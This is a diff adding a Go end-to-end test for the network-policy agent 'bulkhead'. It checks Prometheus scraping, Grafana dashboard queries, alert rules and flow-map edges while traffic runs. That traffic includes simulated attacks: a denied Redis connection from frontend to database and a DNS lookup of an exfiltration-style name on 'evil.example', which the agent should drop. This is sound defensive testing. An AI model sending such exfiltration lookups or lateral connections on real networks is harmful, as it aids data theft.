@@ -1,0 +1,157 @@
+package e2e_test
+
+import (
+	"context"
+	"log/slog"
+	"net/netip"
+	"os"
+	"os/exec"
+	"slices"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"bulkhead.dev/bulkhead/deploy"
+	"bulkhead.dev/bulkhead/deploy/promtest"
+	"bulkhead.dev/bulkhead/testenv"
+)
+
+// TestPrometheus runs a real Prometheus in the node that scrapes the agent
+// while real traffic runs (normal traffic and attacks, in protect mode),
+// then executes every expression of the Grafana dashboards and the alert
+// rules: every dashboard expression returns data, only the alert for
+// violations in protect mode fires, every rule evaluates without error, and
+// the flow map shows one edge with id, source and target per edge the
+// traffic made.
+func TestPrometheus(t *testing.T) {
+	prom := os.Getenv("BULKHEAD_PROMETHEUS")
+	if prom == "" {
+		prom = promtest.DefaultBinary
+	}
+	if _, err := os.Stat(prom); err != nil {
+		t.Fatalf("no Prometheus at %s (Debian package prometheus; make deps installs it): %v", prom, err)
+	}
+	b := newBed(t)
+	a := b.startAgent()
+	a.loadPolicy("shop.yaml", shopPolicy)
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+
+	stop := make(chan struct{})
+	var wg sync.WaitGroup
+	wg.Go(func() {
+		for {
+			if err := b.normalTraffic(); err != nil {
+				t.Errorf("normal traffic: %v", err)
+			}
+			redisCLI(b.fe, "PING")                // denied: frontend → db
+			dig(b.api, "x9q2.exfil.evil.example") // dropped: a name no rule allows
+			select {
+			case <-stop:
+				return
+			case <-time.After(300 * time.Millisecond):
+			}
+		}
+	})
+	defer func() {
+		close(stop)
+		wg.Wait()
+	}()
+
+	srv, err := promtest.Start(ctx, promtest.Config{
+		Binary:        prom,
+		Targets:       []string{metricsAt.String()},
+		RuleFiles:     []string{"../../deploy/prometheus/bulkhead-alerts.yaml"},
+		Logger:        slog.New(slog.NewTextHandler(t.Output(), nil)),
+		ListenAddress: netip.AddrPortFrom(testenv.NodeIP4, 9090).String(),
+		Launch: func(c *exec.Cmd) (func() error, error) {
+			p, err := b.n.Node.Start(c)
+			if err != nil {
+				return nil, err
+			}
+			return p.Wait, nil
+		},
+		Client: b.n.Node.HTTPClient(),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer srv.Close()
+	waitCtx, waitCancel := context.WithTimeout(ctx, 30*time.Second)
+	defer waitCancel()
+	if err := srv.WaitScrapes(waitCtx, 6); err != nil {
+		t.Fatal(err)
+	}
+
+	queries, err := promtest.AllQueries(deploy.FS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	outcomes := srv.CheckAll(ctx, queries, promtest.Vars(srv.Job))
+	t.Logf("query outcomes:\n%s", promtest.Report(outcomes))
+	var fired []string
+	for _, o := range outcomes {
+		switch {
+		case o.Err != nil:
+			t.Errorf("%s: %v", o.Origin, o.Err)
+		case o.Alert != "":
+			if o.HasData() {
+				fired = append(fired, o.Alert)
+			}
+		case !o.HasData():
+			t.Errorf("%s returned no data:\n%s", o.Origin, o.Expanded)
+		}
+	}
+	if diff := cmp.Diff([]string{"BulkheadProtectViolations"}, fired); diff != "" {
+		t.Errorf("alerts whose expression returned data (-want +got):\n%s", diff)
+	}
+
+	// The flow map: one edge per pair the traffic made, with id, source
+	// and target (destinations outside the node by their FQDN group).
+	want := []string{"api->allowed-sites", "api->db", "api->dns", "frontend->api", "frontend->db"}
+	var got []string
+	for _, o := range outcomes {
+		if o.PanelType != "nodeGraph" || o.RefID != "edges" {
+			continue
+		}
+		for _, s := range o.Result.Samples {
+			id, src, dst := s.Labels["id"], s.Labels["source"], s.Labels["target"]
+			if id == "" || src == "" || dst == "" || id != src+"->"+dst {
+				t.Errorf("flow map edge %v lacks a consistent id, source and target", s.Labels)
+			}
+			got = append(got, id)
+		}
+	}
+	slices.Sort(got)
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("flow map edges (-want +got):\n%s", diff)
+	}
+
+	// Every loaded rule evaluates without error.
+	deadline := time.Now().Add(15 * time.Second)
+	for {
+		rules, err := srv.RuleHealth(ctx)
+		if err != nil {
+			t.Fatal(err)
+		}
+		pending := len(rules) == 0
+		for _, r := range rules {
+			switch r.Health {
+			case "ok":
+			case "unknown":
+				pending = true
+			default:
+				t.Errorf("rule %s: health %s: %s", r.Name, r.Health, r.LastError)
+			}
+		}
+		if !pending {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("rules not all evaluated after 15 s: %+v", rules)
+		}
+		time.Sleep(250 * time.Millisecond)
+	}
+}
